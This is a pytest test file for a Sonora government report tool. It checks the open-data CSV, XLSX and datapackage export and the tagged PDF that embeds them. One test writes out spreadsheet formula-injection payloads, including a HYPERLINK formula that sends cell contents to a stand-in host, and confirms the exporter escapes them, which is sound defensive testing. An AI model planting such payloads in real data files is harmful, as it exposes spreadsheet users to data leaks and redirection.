"""Open data a portal can publish, and a PDF that carries it.

``informe export`` (no notebooks) writes ``datos/``: the two CSVs with the figures as published,
``indicadores_2023.xlsx`` and ``datapackage.json`` (Frictionless). The PDF of the session build
(``report_2023`` in conftest.py, built once) is tagged and embeds those files.

Expected values are typed by hand from the published report (section VII tables), not from the code.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import stat
import subprocess
from pathlib import Path

import frictionless
import pandas as pd
import pytest
from edits import cell
from openpyxl import load_workbook

from informe import cli
from informe.calculo import datos_abiertos
from informe.construccion import pasos

MINIMAL = Path(__file__).parent / "fixtures" / "minimal"
FILES = ["datapackage.json", "indicadores_2023.csv", "indicadores_2023.xlsx", "resumen_2023.csv"]
ND = ["OM-5-02", "OM-5-03", "OM-5-04", "OM-5-05"]


def read_csv(path: Path) -> tuple[list[str], list[dict]]:
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    return rows[0], [dict(zip(rows[0], row)) for row in rows[1:]]


def exported(out: Path, *args: str) -> Path:
    assert cli.main(["export", "--year", "2023", "--out", str(out), *args]) == 0
    return out / "datos"


@pytest.fixture(scope="module")
def datos(tmp_path_factory) -> Path:
    return exported(tmp_path_factory.mktemp("abiertos"))


def assert_open_data_files(folder: Path) -> None:
    """Exactly the four open-data files, each readable by everyone (mode 0644)."""
    assert sorted(p.name for p in folder.iterdir()) == FILES
    for path in folder.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o644, path.name


def test_export_writes_every_open_data_file_0644(datos):
    assert_open_data_files(datos)


def test_datapackage_is_valid(datos):
    report = frictionless.validate(str(datos / "datapackage.json"))
    assert report.valid, report.flatten(["title", "message"])
    assert [(task.name, task.type, task.stats.get("rows")) for task in report.tasks] == [
        ("indicadores_2023", "table", 24), ("resumen_2023", "table", 6), ("indicadores_2023_xlsx", "file", None)]


def test_datapackage_schemas_come_from_the_contract(datos):
    package = json.loads((datos / "datapackage.json").read_text(encoding="utf-8"))
    indicators, summary, workbook = package["resources"]
    assert [r["path"] for r in package["resources"]] == ["indicadores_2023.csv", "resumen_2023.csv",
                                                        "indicadores_2023.xlsx"]
    types = {f["name"]: f["type"] for f in indicators["schema"]["fields"]}
    assert types == {
        "indicador_id": "string", "objetivo_id": "integer", "estrategia_id": "string", "nombre": "string",
        "sentido": "string", "unidad_medida": "string", "linea_base_anio": "integer", "linea_base_valor": "number",
        "resultado_anio": "integer", "resultado_valor": "number", "estado": "string", "meta_anio": "integer",
        "meta_valor": "number", "semaforo": "string", "avance_meta_pct": "number", "avance_esperado_pct": "number",
        "trayectoria": "string", "fuente": "string", "nota": "string", "meta_intermedia": "number",
        "programa_id": "string", "ped_eje": "string"}
    enums = {f["name"]: f["constraints"]["enum"] for f in indicators["schema"]["fields"]
             if "enum" in f.get("constraints", {})}
    assert enums == {
        "sentido": ["ascendente", "descendente", "no_aplica"], "estado": ["ND", "pendiente"],
        "semaforo": ["con_avance", "sin_avance", "igual", "sin_informacion", "no_aplica"],
        "trayectoria": ["meta_alcanzada", "en_trayectoria", "avance_moderado", "avance_limitado", "retroceso",
                        "sin_informacion", "no_aplica", "sin_meta"]}
    assert indicators["schema"]["primaryKey"] == ["indicador_id"]
    assert summary["schema"]["primaryKey"] == ["objetivo_id"]
    assert {f["name"]: f["type"] for f in summary["schema"]["fields"]} == {
        "objetivo_id": "string", "indicadores": "integer", "con_avance": "integer", "sin_avance": "integer",
        "igual": "integer", "sin_informacion": "integer", "no_aplica": "integer"}
    for resource in (indicators, summary):
        assert resource["schema"]["missingValues"] == [""]
        assert "foreignKeys" not in resource["schema"]  # resumen.objetivo_id is text (the "total" row)
        assert all(f["title"] and f["description"] for f in resource["schema"]["fields"])
    assert workbook["format"] == "xlsx" and "schema" not in workbook
    assert package["contributors"] == [{"title": "Oficialía Mayor", "role": "publisher",
                                        "organization": "Gobierno del Estado de Sonora"}]
    assert "licenses" not in package  # dependencia.yaml has no licence: the publisher adds it
    text = (datos / "datapackage.json").read_text(encoding="utf-8")
    assert text == json.dumps(package, ensure_ascii=False, indent=2, sort_keys=True) + "\n"


def test_datapackage_catches_a_changed_file(datos, tmp_path):
    copy = tmp_path / "datos"
    shutil.copytree(datos, copy)
    path = copy / "indicadores_2023.csv"
    path.write_text(path.read_text(encoding="utf-8").replace(",con_avance,", ",verde,", 1), encoding="utf-8")
    report = frictionless.validate(str(copy / "datapackage.json"))
    assert not report.valid
    assert {"constraint-error", "hash-count", "byte-count"} <= {row[0] for row in report.flatten(["type"])}


def test_csv_keeps_the_published_precision(datos):
    _, rows = read_csv(datos / "indicadores_2023.csv")
    by_id = {r["indicador_id"]: r for r in rows}
    # section VII as published: Línea base 2022 / Resultado 2023, and the cards' Meta 2027
    assert by_id["OM-2-02"]["resultado_valor"] == "84.20"
    assert by_id["OM-2-04"]["resultado_valor"] == "4.02"
    assert by_id["OM-2-01"]["resultado_valor"] == "100"
    assert by_id["OM-5-04"]["linea_base_valor"] == "41.10"
    assert by_id["OM-5-05"]["linea_base_valor"] == "13.30"
    assert by_id["OM-5-01"]["linea_base_valor"] == "11.79" and by_id["OM-5-01"]["resultado_valor"] == "12"
    assert by_id["OM-1-01"]["linea_base_valor"] == "12.5" and by_id["OM-1-01"]["meta_valor"] == "100"
    assert by_id["OM-2-02"]["avance_meta_pct"] == "105.25"
    for r in rows:
        for column in ("linea_base_valor", "resultado_valor", "meta_valor", "avance_meta_pct", "avance_esperado_pct"):
            assert re.fullmatch(r"(-?\d+(\.\d+)?)?", r[column]), (r["indicador_id"], column, r[column])
        for column in ("avance_meta_pct", "avance_esperado_pct"):
            assert len(r[column].partition(".")[2]) <= 2


def test_computed_results_are_rounded_to_two_decimals(tmp_path):
    data = tmp_path / "datos"
    shutil.copytree(MINIMAL, data)
    results = data / "resultados.csv"
    results.write_text(results.read_text(encoding="utf-8").replace("AC-1-01,2023,,45,90,,", "AC-1-01,2023,,1,3,,"),
                       encoding="utf-8")
    _, rows = read_csv(exported(tmp_path / "salida", "--data", str(data)) / "indicadores_2023.csv")
    by_id = {r["indicador_id"]: r for r in rows}
    assert by_id["AC-1-01"]["resultado_valor"] == "33.33"  # 1 / 3 × 100: no published precision
    assert by_id["AC-1-01"]["linea_base_valor"] == "40"


def test_nothing_infinite_is_published(tmp_path, capsys):
    """Each figure fits a double, but the progress (1e308 − (−1e308)) / (0 − (−1e308)) overflows: an error naming
    the indicator, and no open data written."""
    data = tmp_path / "datos"
    shutil.copytree(MINIMAL, data)
    huge = "1" + "0" * 308
    indicators = data / "indicadores.csv"
    indicators.write_text(re.sub(r"^(AC-2-01,.*),2022,([^,]*),(\d{4}),([^,]*)$", rf"\1,2022,-{huge},\3,0",
                                 indicators.read_text(encoding="utf-8"), flags=re.M), encoding="utf-8")
    results = data / "resultados.csv"
    results.write_text(results.read_text(encoding="utf-8").replace("AC-2-01,2022,70.5,", f"AC-2-01,2022,-{huge},")
                       .replace("AC-2-01,2023,,,,ND,", f"AC-2-01,2023,{huge},,,,"), encoding="utf-8")
    assert cli.main(["validate", "--data", str(data)]) == 0
    out = tmp_path / "salida"
    assert cli.main(["export", "--year", "2023", "--data", str(data), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "AC-2-01" in err and "avance_meta_pct" in err and "infinito" in err
    assert not (out / "datos").exists()


def test_a_text_that_would_be_a_formula_opens_as_text(tmp_path):
    """A spreadsheet opening the CSV runs a cell that starts with = + - @ as a formula (=HYPERLINK sends the
    reader away): such a text gets a leading apostrophe; numbers, also negative ones, are never touched."""
    data = tmp_path / "datos"
    shutil.copytree(MINIMAL, data)
    payloads = {"nombre": '=HYPERLINK("http://ejemplo.invalid/?"&A1,"Ver")', "fuente": "@SUM(1+1)"}
    for column, text in payloads.items():
        cell("indicadores.csv", 2, column, text)(data)
    cell("resultados.csv", 7, "nota", "-2+3 (cifra preliminar)")(data)
    _, rows = read_csv(exported(tmp_path / "salida", "--data", str(data)) / "indicadores_2023.csv")
    by_id = {r["indicador_id"]: r for r in rows}
    assert by_id["AC-1-01"]["nombre"] == "'" + payloads["nombre"]
    assert by_id["AC-1-01"]["fuente"] == "'" + payloads["fuente"]
    assert by_id["AC-2-01"]["nota"] == "'-2+3 (cifra preliminar)"
    assert by_id["AC-1-02"]["nombre"] == "Días promedio de respuesta a solicitudes"  # any other text as it is
    assert datos_abiertos.csv_cell(-3.5) == "-3.5" and datos_abiertos.csv_cell("-3.5") == "'-3.5"


def test_numbers_are_plain_text():
    assert datos_abiertos.plain(1e-05) == "0.00001"
    assert datos_abiertos.plain(1e16) == "10000000000000000"
    assert datos_abiertos.plain(2.5e-07) == "0.00000025"
    assert datos_abiertos.plain(-0.0) == "0"
    assert datos_abiertos.plain(84.2) == "84.2"
    assert datos_abiertos.published(84.2, 2) == "84.20"
    assert datos_abiertos.published(100.0, 0) == "100"
    assert datos_abiertos.published(-0.0, 2) == "0.00"
    assert datos_abiertos.published(100 / 3, None) == "33.33"
    assert datos_abiertos.published(50.0, None) == "50"


def test_fuente_and_nota_columns(datos):
    header, rows = read_csv(datos / "indicadores_2023.csv")
    assert header[-6:] == ["trayectoria", "fuente", "nota", "meta_intermedia", "programa_id", "ped_eje"]
    by_id = {r["indicador_id"]: r for r in rows}
    for iid in ND:
        assert by_id[iid]["estado"] == "ND"
        assert by_id[iid]["nota"] == "La información aún no se publica"
        assert by_id[iid]["fuente"] == "INEGI; ENCIG"
    assert by_id["OM-1-02"]["nota"] == ("Este indicador comenzará a medirse una vez implementado el Servicio "
                                        "Profesional de Carrera")
    assert by_id["OM-5-01"]["fuente"] == "Registro Estatal de Trámites y Servicios"
    assert by_id["OM-3-01"]["fuente"] == "Oficialía Mayor"
    assert sum(1 for r in rows if r["nota"]) == 5


def test_xlsx_holds_the_same_rows_as_the_csvs(datos):
    book = load_workbook(datos / "indicadores_2023.xlsx")
    assert book.sheetnames == ["indicadores_2023", "resumen_2023"]
    for name in book.sheetnames:
        header, rows = read_csv(datos / f"{name}.csv")
        cells = list(book[name].iter_rows(values_only=True))
        assert list(cells[0]) == header
        assert len(cells) - 1 == len(rows)
        for row, values in zip(rows, cells[1:]):
            for column, value in zip(header, values):
                text = row[column]
                if text == "":
                    assert value is None, (name, column)
                elif isinstance(value, (int, float)):
                    assert float(text) == value, (name, column, text, value)
                else:
                    assert value == text, (name, column)
    sheet = book["indicadores_2023"]
    header = [c.value for c in sheet[1]]
    om_2_02 = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "OM-2-02")
    result = om_2_02[header.index("resultado_valor")]
    assert result.value == 84.2 and result.number_format == "0.00"
    assert om_2_02[header.index("meta_valor")].number_format == "0"
    assert book.properties.creator == "Oficialía Mayor"


def test_xlsx_text_is_never_a_formula():
    book = load_workbook(io.BytesIO(datos_abiertos.workbook_bytes(
        [("hoja", pd.DataFrame({"nota": ["=1+1"], "valor": [1.5]}), None)], title="t", creator="c")))
    assert [(c.value, c.data_type) for c in book["hoja"][2]] == [("=1+1", "s"), (1.5, "n")]


def test_export_gives_the_same_bytes_twice(datos, tmp_path):
    again = exported(tmp_path)
    for name in FILES:
        assert (again / name).read_bytes() == (datos / name).read_bytes(), name


def test_a_pdf_is_reused_only_if_printed_the_same_way(tmp_path):
    out, stage = tmp_path / "salida", tmp_path / "trabajo"
    for folder in (out, stage):
        (folder / "datos").mkdir(parents=True)
        (folder / "informe_2023.html").write_text("<html lang='es'></html>", encoding="utf-8")
        (folder / "datos" / "resumen_2023.csv").write_text("objetivo_id\ntotal\n", encoding="utf-8")
    inputs = [stage / "informe_2023.html", stage / "datos" / "resumen_2023.csv"]
    manifest = out / ".informe-construccion.json"
    manifest.write_text(json.dumps({"huella": "x", pasos.PRINT_KEY: pasos.print_settings()}), encoding="utf-8")
    assert pasos.same_print(out, stage, inputs)
    (stage / "datos" / "resumen_2023.csv").write_text("objetivo_id\n1\ntotal\n", encoding="utf-8")
    assert not pasos.same_print(out, stage, inputs)  # other open data: other attachments
    (stage / "datos" / "resumen_2023.csv").write_text("objetivo_id\ntotal\n", encoding="utf-8")
    manifest.write_text(json.dumps({"huella": "x"}), encoding="utf-8")  # printed by an older version
    assert not pasos.same_print(out, stage, inputs)


# ---------------------------------------------------------------- the PDF of the session build


def _run(*command: str) -> str:
    return subprocess.run(command, check=True, capture_output=True, text=True).stdout


def test_build_writes_every_open_data_file_0644(report_2023):
    assert_open_data_files(report_2023 / "datos")


def test_pdf_is_tagged_with_title_language_and_bookmarks(report_2023):
    import pikepdf
    from bs4 import BeautifulSoup

    pdf = report_2023 / "informe_2023.pdf"
    info = _run("pdfinfo", str(pdf))
    assert re.search(r"^Tagged:\s+yes$", info, re.M), info
    assert re.search(r"^Title:\s+Informe Anual de Resultados 2023 — Oficialía Mayor$", info, re.M), info
    assert not re.search(r"^(CreationDate|ModDate):", info, re.M), info  # no date of the build
    html = BeautifulSoup((report_2023 / "informe_2023.html").read_text(encoding="utf-8"), "html.parser")
    sections = [" ".join(h.get_text().split()) for h in html.select("h1.seccion")]
    subsections = [" ".join(h.get_text().split()) for h in html.select("h2.subseccion")]
    with pikepdf.open(pdf) as document:
        assert document.Root.Lang == "es" and document.Root.ViewerPreferences.DisplayDocTitle
        assert document.Root.StructTreeRoot.K  # the structure tree is there, not just the flag
        with document.open_outline() as outline:
            top = [item.title for item in outline.root]
            second = [child.title for item in outline.root for child in item.children]
            # every section and subsection, with its text as in the report (no word run into the next
            # where a long heading wraps), pointing at the page it starts on
            assert [t for t in top if re.match(r"[IVX]+\. ", t)] == sections
            assert set(subsections) <= set(second), set(subsections) - set(second)
            assert all(item.destination is not None or item.action is not None for item in outline.root)
            assert not any(item.children for item in outline.root for item in item.children)  # two levels


def test_pdf_carries_the_open_data(report_2023, tmp_path):
    pdf = report_2023 / "informe_2023.pdf"
    listed = _run("pdfdetach", "-list", str(pdf))
    assert re.findall(r"^\d+: (.+)$", listed, re.M) == FILES
    subprocess.run(["pdfdetach", "-saveall", "-o", str(tmp_path), str(pdf)], check=True, capture_output=True)
    for name in FILES:
        assert (tmp_path / name).read_bytes() == (report_2023 / "datos" / name).read_bytes(), name
